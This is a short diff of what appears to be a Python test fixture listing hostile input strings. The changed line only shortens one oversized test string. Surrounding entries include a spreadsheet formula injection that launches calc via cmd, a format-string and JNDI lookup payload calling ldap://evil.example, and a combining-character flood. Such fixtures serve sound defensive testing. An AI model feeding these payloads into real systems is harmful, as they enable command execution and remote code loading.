@@ -47,7 +47,7 @@ HOSTILE = {
     "formula of another width": "\uff1dcmd|'/c calc'!A0",
     "format": "%s%n{0}{self.__class__} ${jndi:ldap://evil.example}",
     "marks": "e" + "\u0301" * 3000,
-    "megabytes": "A" * 700_000,
+    "very long": "A" * 200_000,
     "key": f"your key is {KEY}",
 }
 PLACES = ("refusal", "acceptance", "failure", "addresses", "status", "slot", "file")
